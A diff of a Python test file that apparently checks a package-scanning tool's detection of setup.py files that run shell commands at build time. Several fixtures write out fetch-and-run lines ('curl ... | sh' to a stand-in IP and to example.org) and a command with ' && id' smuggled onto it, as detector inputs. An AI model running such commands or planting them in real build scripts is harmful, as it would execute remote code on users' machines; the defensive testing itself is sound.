@@ -355,3 +355,40 @@ def test_build_ext_override_is_reported_only_when_it_does_something_unusual() ->
     assert "setup_command_override" not in _behaviours(plain, "setup.py")
     evil = plain.replace("build_ext.run(self)", "__import__('os').system('curl http://203.0.113.1/x|sh')")
     assert "setup_command_override" in _behaviours(evil, "setup.py")
+
+
+_CONFIG_HELPER = """import os
+from setuptools import setup
+
+def cmd1(strings):
+    return os.popen(strings).read().split()
+
+def cmd2(strings):
+    return cmd1(strings)
+
+flags = cmd2("mecab-config --cflags")
+{extra}
+setup(name="x")
+"""
+
+
+@pytest.mark.parametrize(("extra", "path", "command"), [
+    ("", "setup.py", False),
+    ("libs = cmd1(['mecab-config', '--libs'])", "setup.py", False),
+    ("", "helpers.py", True),  # another file may import the helper: its callers are out of sight
+    ("cmd1('curl -s https://example.org/x | sh')", "setup.py", True),
+    ("cmd2(os.environ['CMD'])", "setup.py", True),  # not a literal
+    ("cmd2(f'{os.environ[\"X\"]}-config --cflags')", "setup.py", True),
+    ("run = cmd1", "setup.py", True),  # the helper passed on: its callers are out of sight
+    ("cmd1()", "setup.py", True),  # the argument left out
+    ("cmd1(*['id'])", "setup.py", True),
+])
+def test_setup_helper_running_its_parameter_is_a_build_step_when_every_caller_passes_one(
+        extra: str, path: str, command: bool) -> None:
+    assert (("run_command", 5) in _events(_CONFIG_HELPER.format(extra=extra), path)) is command
+
+
+def test_setup_helper_whose_parameter_is_rebound_keeps_its_command() -> None:
+    code = _CONFIG_HELPER.format(extra="").replace("    return os.popen",
+                                                   "    strings += ' && id'\n    return os.popen")
+    assert ("run_command", 6) in _events(code, "setup.py")
